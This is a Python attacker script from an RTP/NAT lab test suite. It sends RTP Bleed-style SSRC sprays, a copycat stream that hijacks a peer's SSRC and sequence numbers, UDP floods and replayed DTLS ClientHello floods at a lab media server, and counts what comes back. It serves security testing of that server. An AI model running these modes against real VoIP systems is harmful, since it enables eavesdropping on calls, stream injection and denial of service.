#!/usr/bin/python3
"""The attacker of the NAT-lab attack tests (test-attack.sh), on the public
segment.  It sends only to --server (the lab server's public address), real
RTP and RTCP headers, and counts every datagram that comes back to it.

Modes:
  spray      as the RTP Bleed tools (rtpbleed, rtpnatscan) do: every 20 ms a
             new random SSRC, sent as a single RTP packet or as a burst of 2-3
             packets with consecutive sequence numbers (back to back, well
             within 1 ms), plus a forged RTCP report with a random SSRC; each
             round from one of --sockets source ports.
  sustained  one source port, one SSRC, consecutive sequence numbers, --rate
             packets/s, and RTCP (SR) from the same SSRC every 250 ms: a
             well-formed stream.  With --copy-from FILE (the legitimate peer's
             "ssrc seq", what an on-path observer sees) it switches to the
             legitimate SSRC --copy-at seconds after it started, continuing its
             own sequence numbers; with --copy-seq too, it then sends each
             packet with the sequence number after the peer's last one (the
             copycat of docs/threat-model.md).
             --srtp-key B64 protects all it sends as SRTP/SRTCP with that
             key (the wrong one: it does not know the call's);
             --payload-marker HEX fills its RTP payload with that pattern,
             so that a receiver can count what of it went downstream.
  flood      --rate packets/s in all, spread over --sockets source ports on
             each --ips address: RTP (random SSRC and sequence number per
             packet) and, one in five, RTCP.
  hello      a DTLS ClientHello spray: one real ClientHello (--hello FILE;
             captured first when the file does not exist, from `openssl
             s_client -dtls1_2 -use_srtp ...` sending to a local socket),
             replayed byte for byte at --rate datagrams/s in all, round robin
             over --sockets source ports on each --ips address, to the RTP
             port.  Each source looks like a new DTLS client to the server.

key=value lines at the end: sent.rtp, sent.hello (hello), sent.rtcp, rx (datagrams received on
any attacker socket), rx.from, ssrc.first / ssrc.copied / sent.copied
(sustained: packets sent under the copied SSRC),
t.first (monotonic time of the first packet), seconds (from the first to
the last), sources (the local addresses it sent from).
"""
import argparse
import os
import random
import select
import signal
import sys
import time

import rtplab


def capture_client_hello(path):
    """The first datagram `openssl s_client` sends toward a local socket: a
    real DTLS 1.2 ClientHello offering SRTP, kept in PATH for the next runs."""
    import socket
    import subprocess
    if os.path.exists(path):
        with open(path, "rb") as f:
            return f.read()
    sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sink.bind(("127.0.0.1", 0))
    sink.settimeout(5)
    client = subprocess.Popen(
        ["openssl", "s_client", "-dtls1_2", "-use_srtp",
         "SRTP_AEAD_AES_128_GCM:SRTP_AES128_CM_SHA1_80", "-quiet",
         "-connect", "127.0.0.1:%d" % sink.getsockname()[1]],
        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        data, _ = sink.recvfrom(4096)
    finally:
        client.kill()
        client.wait()
    with open(path, "wb") as f:
        f.write(data)
    return data


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["spray", "sustained", "flood", "hello"])
    ap.add_argument("--server", required=True)
    ap.add_argument("--rtp-port", type=int, default=5004, help="RTCP: +1")
    ap.add_argument("--ips", default="0.0.0.0", help="comma-separated local addresses to send from")
    ap.add_argument("--local-port", type=int, default=0, help="sustained: source port (RTCP: +1)")
    ap.add_argument("--sockets", type=int, default=4, help="source ports per address")
    ap.add_argument("--rate", type=float, default=50)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--ssrc", type=lambda v: int(v, 0), default=None)
    ap.add_argument("--seq", type=int, default=None)
    ap.add_argument("--copy-from")
    ap.add_argument("--copy-at", type=float, default=-1)
    ap.add_argument("--copy-seq", action="store_true",
                    help="with --copy-from: send the peer's next sequence numbers")
    ap.add_argument("--srtp-key", help="send SRTP/SRTCP with this base64 key (AES_CM_128_HMAC_SHA1_80)")
    ap.add_argument("--payload-marker", help="hex bytes repeated as the RTP payload (sustained)")
    ap.add_argument("--hello", help="hello: the ClientHello datagram's file (captured if missing)")
    ap.add_argument("--recv-log", help='one line per datagram received: "monotonic-time ip port"')
    a = ap.parse_args()

    rnd = random.SystemRandom()
    rtp_dst = (a.server, a.rtp_port)
    rtcp_dst = (a.server, a.rtp_port + 1)
    ips = a.ips.split(",")
    if a.mode == "sustained":
        socks = [rtplab.udp_socket(ips[0], a.local_port),
                 rtplab.udp_socket(ips[0], a.local_port + 1 if a.local_port else 0)]
    else:
        socks = [rtplab.udp_socket(ip, 0) for ip in ips for _ in range(a.sockets)]

    stop = []
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))

    srtp = rtplab.srtp_session(a.srtp_key, True, repeat=True) if a.srtp_key else None

    def rtp_out(p):
        return srtp.protect(p) if srtp else p

    def rtcp_out(p):
        return srtp.protect_rtcp(p) if srtp else p
    payload = b"\xff" * rtplab.PCMU_SAMPLES
    if a.payload_marker:
        m = bytes.fromhex(a.payload_marker)
        payload = (m * (rtplab.PCMU_SAMPLES // len(m) + 1))[:rtplab.PCMU_SAMPLES]

    rx = dict(n=0, src=set())
    recv_log = open(a.recv_log, "w") if a.recv_log else None

    def on_packet(data, addr):
        rx["n"] += 1
        rx["src"].add("%s:%d" % addr[:2])
        if recv_log:
            recv_log.write("%.6f %s %d\n" % (time.monotonic(), addr[0], addr[1]))

    sent = dict(rtp=0, rtcp=0, copied=0, hello=0)
    hello = capture_client_hello(a.hello) if a.mode == "hello" else b""
    ssrc = a.ssrc if a.ssrc is not None else rnd.getrandbits(32)
    first_ssrc, copied = ssrc, None
    seq = a.seq if a.seq is not None else rnd.getrandbits(16)
    ts = rnd.getrandbits(32)
    start = time.monotonic()
    t_first = t_last = None

    if a.mode == "spray":
        interval = 0.020
    elif a.mode == "sustained":
        interval = 1.0 / a.rate
    else:
        interval = 0.010        # a batch of rate/100 packets every 10 ms (flood, hello)
    per_batch = max(1, round(a.rate * interval))
    next_send = start
    next_rtcp = start
    rounds = 0

    while not stop and time.monotonic() - start < a.seconds:
        now = time.monotonic()
        if now >= next_send:
            t_first = t_first or now
            if a.mode == "spray":
                s = rnd.choice(socks)
                ssrc = rnd.getrandbits(32)
                seq = rnd.getrandbits(16)
                ts = rnd.getrandbits(32)
                for i in range(rnd.choice((1, 2, 3))):
                    s.sendto(rtplab.rtp_packet(ssrc, seq + i, ts + 160 * i), rtp_dst)
                    sent["rtp"] += 1
                # Forged RTCP: its own random SSRC, half SR, half RR
                r_ssrc = rnd.getrandbits(32)
                if rounds % 2:
                    s.sendto(rtplab.rtcp_sr(r_ssrc, ts, 1, 160), rtcp_dst)
                else:
                    s.sendto(rtplab.rtcp_rr(r_ssrc), rtcp_dst)
                sent["rtcp"] += 1
            elif a.mode == "sustained":
                if (copied is None and a.copy_from and a.copy_at >= 0 and
                        now - start >= a.copy_at and os.path.exists(a.copy_from)):
                    with open(a.copy_from) as f:
                        fields = f.read().split()
                    if fields:
                        ssrc = copied = int(fields[0])
                if copied is not None and a.copy_seq:
                    # The peer's last sequence number, as an on-path observer sees it
                    with open(a.copy_from) as f:
                        fields = f.read().split()
                    if len(fields) == 2:
                        seq = (int(fields[1]) + 1) & 0xFFFF
                socks[0].sendto(rtp_out(rtplab.rtp_packet(ssrc, seq, ts, payload=payload)), rtp_dst)
                sent["rtp"] += 1
                sent["copied"] += copied is not None
                seq = (seq + 1) & 0xFFFF
                ts += rtplab.PCMU_SAMPLES
                if now >= next_rtcp:
                    socks[1].sendto(rtcp_out(rtplab.rtcp_sr(ssrc, ts, sent["rtp"], 160 * sent["rtp"])), rtcp_dst)
                    sent["rtcp"] += 1
                    next_rtcp += 0.25
            elif a.mode == "hello":
                for _ in range(per_batch):
                    socks[sent["hello"] % len(socks)].sendto(hello, rtp_dst)
                    sent["hello"] += 1
            else:
                for _ in range(per_batch):
                    s = rnd.choice(socks)
                    if rnd.random() < 0.2:
                        s.sendto(rtplab.rtcp_rr(rnd.getrandbits(32)), rtcp_dst)
                        sent["rtcp"] += 1
                    else:
                        s.sendto(rtplab.rtp_packet(rnd.getrandbits(32), rnd.getrandbits(16),
                                                   rnd.getrandbits(32)), rtp_dst)
                        sent["rtp"] += 1
            rounds += 1
            t_last = time.monotonic()
            next_send += interval
        wait = max(0.0, next_send - time.monotonic())
        try:
            ready, _, _ = select.select(socks, [], [], wait)
        except InterruptedError:
            ready = []
        for s in ready:
            rtplab.drain(s, on_packet)

    end = time.monotonic() + 0.1
    while time.monotonic() < end:
        for s in socks:
            rtplab.drain(s, on_packet)
        time.sleep(0.01)

    if recv_log:
        recv_log.close()
    print(f"sent.rtp={sent['rtp']}")
    print(f"sent.rtcp={sent['rtcp']}")
    if a.mode == "hello":
        print(f"sent.hello={sent['hello']}")
        print(f"hello.bytes={len(hello)}")
    print(f"rx={rx['n']}")
    print(f"rx.from={','.join(sorted(rx['src']))}")
    print(f"t.first={t_first or 0:.6f}")
    print(f"seconds={(t_last - t_first) if t_first else 0:.3f}")
    print(f"sources={','.join('%s:%d' % s.getsockname()[:2] for s in socks)}")
    if a.mode == "sustained":
        print(f"ssrc.first={first_ssrc}")
        print(f"ssrc.copied={'' if copied is None else copied}")
        print(f"sent.copied={sent['copied']}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
